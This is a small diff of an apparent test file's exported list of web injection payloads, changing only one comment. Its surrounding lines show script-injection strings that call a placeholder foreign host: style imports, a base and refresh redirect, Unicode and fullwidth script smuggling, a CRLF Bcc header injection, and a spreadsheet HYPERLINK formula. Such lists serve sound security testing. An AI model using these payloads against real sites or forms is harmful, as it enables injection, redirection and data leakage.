@@ -54,7 +54,7 @@ export const PAYLOADS = [
   // styles and other requests
   `pwn36<style>@import'//${FOREIGN}/x'</style><link rel=stylesheet href=//${FOREIGN}/x>`,
   `pwn37<base href=//${FOREIGN}/><meta http-equiv=refresh content="0;url=//${FOREIGN}/x">`,
-  // letters that are seen otherwise, and lines that begin anew
+  // letters that are seen otherwise, and line breaks
   `pwn38\u202e>gnihton<\u2066 ${"\uff1c"}script\uff1e${RUN}\uff1c/script\uff1e`,
   `pwn39\r\nBcc: ${FOREIGN}\r\n\r\n<script>${RUN}</script>`,
   `=HYPERLINK("//${FOREIGN}/x","pwn40")`,
